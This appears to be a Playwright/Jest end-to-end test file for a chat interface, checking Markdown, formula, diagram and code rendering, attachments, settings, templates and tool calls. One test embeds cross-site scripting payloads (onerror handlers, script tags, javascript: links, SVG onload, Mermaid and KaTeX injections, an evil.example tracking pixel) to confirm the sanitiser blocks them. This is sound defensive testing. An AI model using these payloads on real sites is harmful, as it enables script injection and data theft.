/** What a model says, on the page: Markdown, code, formulas, diagrams, thinking; and what it may not do. Files that are attached. Both themes. */
import { jest } from '@jest/globals';
import { answered, answers, chatHouse, composer, type ChatHouse } from './support/chat.js';
import { openPage, type OpenPage } from './support/page.js';
import { soon } from './support/soon.js';

jest.setTimeout(120_000);
let house: ChatHouse;
beforeAll(async () => {
  house = await chatHouse(false);
}, 60_000);
afterAll(() => house.end());

/** Asks the stand-in provider in a chat of its own. */
async function told(text: string, options: Parameters<typeof openPage>[2] & { thinking?: string; title?: string } = {}): Promise<OpenPage> {
  const { thinking, title = 'A chat', ...rest } = options;
  const chat = await house.rig.client.createChat({ body: { model: 'cloud', title } });
  const open = await openPage(house.rig, `/chat/${chat.id}`, rest);
  house.says(text, thinking);
  await composer(open.page).fill('Show me everything you can');
  await composer(open.page).press('Enter');
  await open.page.getByRole('button', { name: 'Regenerate' }).waitFor();
  return open;
}

const RICH = `# Everything at once

Text with **bold**, *italic*, \`code\`, a [link](https://example.org/page) and \\(E = mc^2\\), for $5 only.

$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$

| Model | Memory | Speed |
|---|---:|---:|
| Qwen 3 4B | 2.4 GB | 88 tok/s |
| Llama 3.3 70B | 39 GB | 9 tok/s |

- [x] done
- [ ] to do

\`\`\`python
def greet(name: str) -> str:
    """A greeting."""
    return f"Hello, {name}!"
\`\`\`

\`\`\`mermaid
graph LR
  A[Question] --> B{Fits?}
  B -->|yes| C[Answer]
  B -->|no| D[Trim]
\`\`\`

> A quotation.

1. first
2. second`;

test.each(['light', 'dark'] as const)('tables, formulas, colours, diagrams and thinking, %s', async (theme) => {
  const { page, axe, shot, expectNoErrors } = await told(RICH, {
    theme,
    thinking: 'They want to see everything.',
    height: 1500,
    title: `Everything (${theme})`,
  });
  const answer = answers(page).last();
  await answer.getByRole('columnheader', { name: 'Memory' }).waitFor();
  await answer.locator('.katex').first().waitFor();
  await soon(() => answer.locator('.katex-error').count()).toBe(0);
  await soon(() => answer.getByText('for $5 only').count()).toBe(1);
  await answer.locator('.token', { hasText: 'return' }).first().waitFor();
  const diagram = answer.getByRole('img', { name: /^Diagram/ });
  await diagram.waitFor();
  await soon(() => diagram.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 50)).toBe(true);
  const link = answer.getByRole('link', { name: 'link' });
  expect([await link.getAttribute('target'), await link.getAttribute('rel')]).toEqual(['_blank', 'noopener noreferrer nofollow']);
  await answer.getByRole('button', { name: /^Thought/ }).click();
  await answer.getByText('They want to see everything.').waitFor();
  await answer.getByRole('button', { name: 'Copy code' }).first().click();
  await soon(() => page.evaluate(() => navigator.clipboard.readText())).toContain('def greet');
  await page.mouse.move(0, 0);
  await shot(`chat-rich-${theme}`);
  await axe();
  await answer.getByRole('button', { name: 'Show Source' }).click();
  await answer.getByText('graph LR').waitFor();
  await page.setViewportSize({ width: 800, height: 560 });
  await shot(`chat-small-${theme}`);
  await axe();
  expectNoErrors();
});

test('hostile Markdown runs nothing, asks nobody and links nowhere it should not', async () => {
  const hostile = `Look: <img src="https://evil.example/a.png" onerror="window.hacked=1"><script>window.hacked=2</script><iframe src="https://evil.example"></iframe>

![tracking](https://evil.example/pixel.png?secret=1) ![local](/api/settings) ![data](data:image/svg+xml,<svg onload="window.hacked=3"/>)

[script](javascript:window.hacked=4) [data](data:text/html,x) [local](/api/agent) [fine](https://example.org)

$$\\href{javascript:window.hacked=5}{x} \\includegraphics{https://evil.example/b.png} \\htmlClass{fixed}{y}$$

\`\`\`mermaid
graph LR
  A["<img src=x onerror=window.hacked=6>"] --> B["#lt;img src=x onerror=window.hacked=9#gt; #60;img src=x onerror=window.hacked=10#62;"]
  click A "javascript:window.hacked=7"
\`\`\`

\`\`\`html
<script>window.hacked=8</script>
\`\`\`
`;
  const { page, expectNoErrors, axe, shot } = await told(hostile, { expected: /^never$/ });
  const answer = answers(page).last();
  await answer
    .getByRole('img', { name: /^Diagram/ })
    .or(answer.getByText('This is no diagram'))
    .first()
    .waitFor();
  await answer.locator('.token').first().waitFor();
  await soon(() => page.evaluate(() => (window as { hacked?: number }).hacked ?? 0)).toBe(0);
  await soon(() => answer.locator('script, iframe, object, embed, form').count()).toBe(0);
  const sources = await answer.locator('img').evaluateAll((images: HTMLImageElement[]) => images.map((image) => image.src));
  expect(sources.every((source) => source.startsWith('blob:'))).toBe(true);
  const hrefs = await answer.locator('a').evaluateAll((links: HTMLAnchorElement[]) => links.map((link) => link.getAttribute('href')));
  expect(hrefs).toEqual(['https://evil.example/pixel.png?secret=1', 'https://example.org']);
  await soon(() => answer.getByText('from evil.example').count()).toBe(1);
  await soon(() => answer.getByRole('link', { name: 'Open Image in Browser' }).getAttribute('rel')).toContain('noreferrer');
  await axe();
  await shot('chat-hostile');
  expectNoErrors();
});

test('what no parser bears is shown as it was written, and what stands beside it as it should be', async () => {
  const { page, expectNoErrors } = await told(
    [
      'First **words**.',
      `${'> '.repeat(5000)}deep`,
      `$${'{'.repeat(1900)}x${'}'.repeat(1900)}$`,
      `$$${'x+'.repeat(30_000)}y$$`,
      'a**b'.repeat(20_000),
      '['.repeat(30_000),
      'Last **words**.',
    ].join('\n\n'),
  );
  const answer = answers(page).last();
  await answer.locator('strong', { hasText: 'words' }).nth(1).waitFor();
  await answer.getByText('deep').waitFor();
  await composer(page).fill('The page is alive');
  expectNoErrors();
});

test('a list of 5,000 lines is written without holding up who types; Hebrew runs from the right, and nothing reaches out of a link', async () => {
  const chat = await house.rig.client.createChat({ body: { model: 'cloud', title: 'Long' } });
  const { page, expectNoErrors } = await openPage(house.rig, `/chat/${chat.id}`);
  await composer(page).waitFor();
  const writing = house.writes();
  await composer(page).fill('Go on');
  await composer(page).press('Enter');
  await writing.said;
  for (let i = 0; i < 5000; i += 250) {
    writing.piece(Array.from({ length: 250 }, (_, j) => `- item **${i + j}** with \`code\` and words enough to be a line\n`).join(''));
    // One piece of the stream after the other, as a model writes them.
    await answers(page)
      .getByText(`item ${i + 249} with`)
      .or(answers(page).getByText(`item **${i + 249}**`))
      .first()
      .waitFor({ timeout: 60_000 });
  }
  await composer(page).pressSequentially('meanwhile');
  writing.piece('\n\nשלום \u202Eעולם [link](https://example.org)\n');
  writing.end();
  await page.getByRole('button', { name: 'Regenerate' }).waitFor({ timeout: 60_000 });
  await soon(() => answers(page).last().locator('li').count()).toBe(5000);
  // Nobody scrolled: the end is in sight.
  const toEnd = page.getByRole('button', { name: 'To the End' });
  await soon(() => toEnd.count()).toBe(0);
  await answers(page).last().hover();
  await page.mouse.wheel(0, -1000);
  await toEnd.waitFor();
  const look = (selector: string) =>
    answers(page)
      .last()
      .locator(selector)
      .last()
      .evaluate((element) => getComputedStyle(element).unicodeBidi);
  expect([await look('p'), await look('a')]).toEqual(['plaintext', 'isolate']);
  expectNoErrors();
});

test('files by button, paste and drop: pictures, films, text without an ending; what no model reads is refused', async () => {
  const { client } = house.rig;
  const chat = await client.createChat({ body: { model: 'cloud', title: 'Files' } });
  const { page, expectNoErrors, axe, shot } = await openPage(house.rig, `/chat/${chat.id}`);
  const waiting = page.getByRole('list', { name: 'Files to send' }).getByRole('listitem');
  await composer(page).waitFor();
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'Attach files' }).click()]);
  await chooser.setFiles([
    { name: 'Makefile', mimeType: '', buffer: Buffer.from('all:\n\techo hi\n') },
    { name: 'Dockerfile', mimeType: '', buffer: Buffer.from('FROM scratch\n') },
  ]);
  await page.getByRole('button', { name: 'Remove Dockerfile' }).waitFor();
  const give = (kind: 'paste' | 'drop', name: string, bytes: number[]) =>
    composer(page).evaluate(
      (field, [how, called, content]) => {
        const data = new DataTransfer();
        data.items.add(new File([new Uint8Array(content)], called));
        const event =
          how === 'paste'
            ? new ClipboardEvent('paste', { clipboardData: data, bubbles: true })
            : new DragEvent('drop', { dataTransfer: data, bubbles: true });
        field.dispatchEvent(event);
      },
      [kind, name, bytes] as const,
    );
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  await give('paste', 'shot.png', [...png]);
  await give('drop', 'README', [...Buffer.from('Read me')]);
  await page.getByRole('button', { name: 'Remove README' }).waitFor();
  await give('drop', 'archive.zip', [80, 75, 0, 0]);
  await page.getByText('The file archive.zip cannot be given to the model').waitFor();
  await page.getByRole('button', { name: 'Remove Dockerfile' }).click();
  await soon(() => waiting.count()).toBe(3);
  await page.waitForFunction(() => document.querySelector('[aria-label="Being attached"]') === null);
  await axe();
  await shot('chat-files');
  house.says('Three files.');
  await composer(page).fill('What are these?');
  await composer(page).press('Enter');
  await answered(page, 'Three files.');
  const mine = page.getByRole('article', { name: 'You' });
  await mine.getByRole('img', { name: 'shot.png' }).waitFor();
  await mine.getByRole('link', { name: 'Makefile' }).waitFor();
  const { messages } = await client.getChat({ params: { chatId: chat.id } });
  expect(messages[0]?.parts.map((part) => ('name' in part ? `${part.type} ${part.name}` : part.type))).toEqual([
    'file Makefile',
    'image shot.png',
    'file README',
    'text',
  ]);
  expectNoErrors();
});

test('text that comes with a picture of itself is pasted as text; a copied picture as a picture', async () => {
  const chat = await house.rig.client.createChat({ body: { model: 'cloud', title: 'Pasted' } });
  const { page, expectNoErrors } = await openPage(house.rig, `/chat/${chat.id}`);
  /** @returns whether the browser is left to paste the text. */
  const paste = (types: Record<string, string>): Promise<boolean> =>
    composer(page).evaluate((field, given) => {
      const data = new DataTransfer();
      for (const [type, text] of Object.entries(given)) data.setData(type, text);
      data.items.add(new File([new Uint8Array([137, 80, 78, 71])], 'image.png', { type: 'image/png' }));
      return field.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
    }, types);
  await composer(page).waitFor();
  // As Excel does; a browser, of a picture on a page; and the Finder, of a file.
  expect(await paste({ 'text/plain': 'a\tb', 'text/html': '<table><tr><td>a</td><td>b</td></tr></table>' })).toBe(true);
  const removes = page.getByRole('button', { name: 'Remove image.png' });
  await soon(() => removes.count()).toBe(0);
  expect(await paste({ 'text/html': '<img src="https://example.org/a.png">' })).toBe(false);
  await soon(() => removes.count()).toBe(1);
  expect(await paste({ 'text/plain': 'image.png' })).toBe(false);
  await soon(() => removes.count()).toBe(2);
  expectNoErrors();
});

test('a film that the browser recorded does not say its length: its end does; over two minutes it is refused', async () => {
  const chat = await house.rig.client.createChat({ body: { model: 'cloud', title: 'Film' } });
  const { page, expectNoErrors } = await openPage(house.rig, `/chat/${chat.id}`);
  await composer(page).waitFor();
  const give = (name: string, from: 'recorded' | 'late' | 'broken'): Promise<number> =>
    composer(page).evaluate(
      async (field, [called, how]) => {
        const record = async (): Promise<Uint8Array<ArrayBuffer>> => {
          const canvas = document.createElement('canvas');
          const paint = (i: number): void => canvas.getContext('2d')?.fillRect(0, 0, i, i);
          const recorder = new MediaRecorder(canvas.captureStream(30), { mimeType: 'video/webm;codecs=vp8' });
          const parts: Blob[] = [];
          recorder.ondataavailable = ({ data }) => void parts.push(data);
          const stopped = new Promise((done) => (recorder.onstop = done));
          // In pieces it is written as a stream, whose length nobody knows at its beginning.
          recorder.start(100);
          for (let i = 0; i < 15; i++) {
            paint(i);
            await new Promise((drawn) => setTimeout(drawn, 33));
          }
          recorder.stop();
          await stopped;
          return new Uint8Array(await new Blob(parts).arrayBuffer());
        };
        const find = (bytes: Uint8Array, wanted: readonly number[], from = 0): number =>
          bytes.findIndex((_, i) => i >= from && wanted.every((byte, j) => bytes[i + j] === byte));
        /** The film again behind itself, 150 seconds later. Source of the form: RFC 9559, Cluster and Timestamp. */
        const later = (bytes: Uint8Array<ArrayBuffer>): Uint8Array<ArrayBuffer> => {
          const cluster = find(bytes, [0x1f, 0x43, 0xb6, 0x75]);
          const at = find(bytes, [0xe7], cluster);
          const behind = at + 2 + ((bytes[at + 1] ?? 0) & 0x7f);
          const again = [...bytes.slice(cluster, at), 0xe7, 0x83, 0x02, 0x49, 0xf0, ...bytes.slice(behind)];
          return new Uint8Array([...bytes, ...again]);
        };
        const bytes =
          how === 'broken' ? new Uint8Array([0x1a, 0x45, 0xdf, 0xa3, 0]) : how === 'late' ? later(await record()) : await record();
        const film = document.createElement('video');
        const length = new Promise<number>((told) => {
          film.onloadedmetadata = () => told(film.duration);
          film.onerror = () => told(NaN);
        });
        film.src = URL.createObjectURL(new Blob([bytes]));
        const data = new DataTransfer();
        data.items.add(new File([bytes], called));
        field.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true }));
        return length;
      },
      [name, from] as const,
    );
  expect(await give('short.webm', 'recorded')).toBe(Infinity);
  await page.getByRole('button', { name: 'Remove short.webm' }).waitFor();
  await page.waitForFunction(() => document.querySelector('[aria-label="Being attached"]') === null);
  expect(await give('long.webm', 'late')).toBe(Infinity);
  await page.getByText(/^long\.webm cannot be attached: it lasts 15\d s, and a film may last 120 s/).waitFor();
  await give('broken.webm', 'broken');
  await page.getByText('broken.webm cannot be attached: its length cannot be told').waitFor();
  await soon(() => page.getByRole('list', { name: 'Files to send' }).getByRole('listitem').count()).toBe(1);
  expectNoErrors();
});

test('settings and templates: a system prompt reaches the model, a template is filled in', async () => {
  const { client } = house.rig;
  const chat = await client.createChat({ body: { model: 'cloud', title: 'Settings' } });
  const { page, expectNoErrors, axe, shot } = await openPage(house.rig, `/chat/${chat.id}`);
  await page.getByRole('button', { name: 'Chat settings' }).click();
  await page.getByRole('textbox', { name: 'System prompt' }).fill('You are a pirate.');
  await page.getByRole('textbox', { name: 'Temperature' }).fill('9');
  await page.getByText('0 to 5').waitFor();
  await page.getByRole('textbox', { name: 'Temperature' }).fill('0.5');
  await axe();
  await shot('chat-settings');
  await page.getByRole('dialog').getByRole('button', { name: 'Save' }).click();
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  await client.createTemplate({ body: { name: 'Ask like this', text: 'Explain {topic} to a {who:child}.' } });
  await page.getByRole('button', { name: 'Insert a template' }).click();
  await page.getByRole('textbox', { name: 'Search templates' }).fill('like this');
  await page.getByRole('button', { name: /Ask like this/ }).click();
  await page.getByRole('textbox', { name: 'topic' }).fill('memory');
  await page.keyboard.press('Enter');
  await page.waitForFunction(
    () => document.querySelector<HTMLTextAreaElement>('textarea[aria-label="Message"]')?.value === 'Explain memory to a child.',
  );
  house.says('Arr.');
  await composer(page).press('Enter');
  await answered(page, 'Arr.');
  expect(house.provider.asked.at(-1)?.body).toMatchObject({
    temperature: 0.5,
    messages: [
      { role: 'system', content: 'You are a pirate.' },
      { role: 'user', content: 'Explain memory to a child.' },
    ],
  });
  expectNoErrors();
});

test('a template chooses who answers, in a new chat and in one that is there; nothing is inserted while a place is empty', async () => {
  const { client } = house.rig;
  const poet = await client.createPersona({ body: { name: 'Poet', systemPrompt: 'You rhyme.' } });
  await client.createTemplate({ body: { name: 'Rhyme on', text: 'A rhyme on {word}, please.', model: 'cloud', persona: 'poet' } });
  // Nobody answers to `elsewhere`: its tokens cannot be counted.
  const { page, expectNoErrors, axe } = await openPage(house.rig, '/chat', { expected: /status of 404.*chats\/count/ });
  const dialog = page.getByRole('dialog');
  const use = async (name: string): Promise<void> => {
    await page.getByRole('button', { name: 'Insert a template' }).click();
    await page.getByRole('textbox', { name: 'Search templates' }).fill(name);
    await dialog.getByRole('button', { name }).click();
  };
  const insert = dialog.getByRole('button', { name: 'Insert', exact: true });
  const rhyme = async (word: string): Promise<void> => {
    await use('Rhyme on');
    await dialog.getByText('Fill in first: word.').waitFor();
    await soon(() => insert.isDisabled()).toBe(true);
    await page.getByRole('textbox', { name: 'word' }).press('Enter');
    await page.getByRole('textbox', { name: 'word' }).fill(word);
    await soon(() => dialog.getByText('Fill in first').count()).toBe(0);
  };
  await rhyme('sea');
  await axe({ within: '[role="dialog"]' });
  await insert.click();
  await page.getByText('This chat now uses the model cloud and the persona Poet').waitFor();
  await soon(() => page.getByRole('combobox', { name: 'Model' }).inputValue()).toBe('cloud');
  await soon(() => composer(page).inputValue()).toBe('A rhyme on sea, please.');
  house.says('Tea.');
  await composer(page).press('Enter');
  await answered(page, 'Tea.');
  const asked = {
    model: 'cloud',
    messages: [
      { role: 'system', content: 'You rhyme.' },
      { role: 'user', content: 'A rhyme on sea, please.' },
    ],
  };
  expect(house.provider.asked.at(-1)?.body).toMatchObject(asked);

  const other = await client.createChat({ body: { model: 'elsewhere', title: 'There already' } });
  await page.goto(`${house.rig.agent.address}/chat/${other.id}`);
  await page.getByRole('heading', { level: 1, name: 'There already' }).waitFor();
  await rhyme('moon');
  await page.keyboard.press('Enter');
  await soon(async () => (await client.getChat({ params: { chatId: other.id } })).chat).toMatchObject({
    model: 'cloud',
    personaId: poet.id,
  });
  await page.getByText('This chat now uses the model cloud and the persona Poet').waitFor();
  await soon(() => composer(page).inputValue()).toBe('A rhyme on moon, please.');
  expectNoErrors();
});

const weather = {
  type: 'function',
  function: {
    name: 'get_weather',
    description: 'Weather of a city',
    parameters: { type: 'object', properties: { city: { type: 'string' } } },
  },
};

test('tools are typed in the settings and sent; the results of all calls of an answer are sent together', async () => {
  const { client } = house.rig;
  const { page, expectNoErrors, axe, shot } = await openPage(house.rig, '/chat');
  await page.getByRole('combobox', { name: 'Model' }).click();
  await page.getByRole('option', { name: /^cloud/ }).click();
  await page.getByRole('button', { name: 'Chat settings' }).click();
  const dialog = page.getByRole('dialog');
  const field = dialog.getByRole('textbox', { name: 'Tools' });
  const save = dialog.getByRole('button', { name: 'Save' });
  await field.fill('[{"type": "function"');
  await dialog.getByText(/^This is not JSON: /).waitFor();
  await soon(() => save.isDisabled()).toBe(true);
  await field.fill('[{"type": "function", "function": {}}]');
  await dialog.getByText(/^Tool 1: its function needs a "name"/).waitFor();
  await field.fill(JSON.stringify([weather]));
  await soon(() => dialog.getByText(/^Tool 1/).count()).toBe(0);
  await axe({ within: '[role="dialog"]' });
  await save.click();
  await dialog.waitFor({ state: 'detached' });

  house.calls([
    ['get_weather', '{"city": "Paris"}'],
    ['get_weather', '{"city": "Rome"}'],
  ]);
  await composer(page).fill('Paris and Rome?');
  await composer(page).press('Enter');
  const send = page.getByRole('button', { name: /^Send 2 Results/ });
  await page.getByRole('button', { name: 'Send 2 Results (2 missing)' }).waitFor();
  expect(house.provider.asked.at(-1)?.body).toMatchObject({ tools: [weather] });
  const [paris, rome] = [0, 1].map((i) => page.getByRole('textbox', { name: 'Result of get_weather' }).nth(i));
  await paris!.fill('21 °C');
  await page.getByRole('button', { name: 'Send 2 Results (1 missing)' }).waitFor();
  await soon(() => send.isDisabled()).toBe(true);
  await rome!.fill('25 °C');
  await axe();
  await shot('chat-tools');
  house.says('Both are warm.');
  const before = house.provider.asked.length;
  await send.click();
  await answered(page, 'Both are warm.');
  expect(house.provider.asked.slice(before).map(({ body }) => body)).toMatchObject([
    {
      tools: [weather],
      messages: [
        { role: 'user' },
        { role: 'assistant', tool_calls: [{ id: 'call_0' }, { id: 'call_1' }] },
        { role: 'tool', tool_call_id: 'call_0', content: '21 °C' },
        { role: 'tool', tool_call_id: 'call_1', content: '25 °C' },
      ],
    },
  ]);
  await soon(() => page.getByRole('button', { name: 'Called get_weather · done' }).count()).toBe(2);
  await axe();
  // They are kept with the chat.
  await page.reload();
  await page.getByRole('button', { name: 'Chat settings' }).click();
  await soon(async () => JSON.parse(await field.inputValue())).toEqual([weather]);
  expect((await client.getChat({ params: { chatId: page.url().split('/').at(-1)! } })).chat.tools).toEqual([weather]);
  expectNoErrors();
});
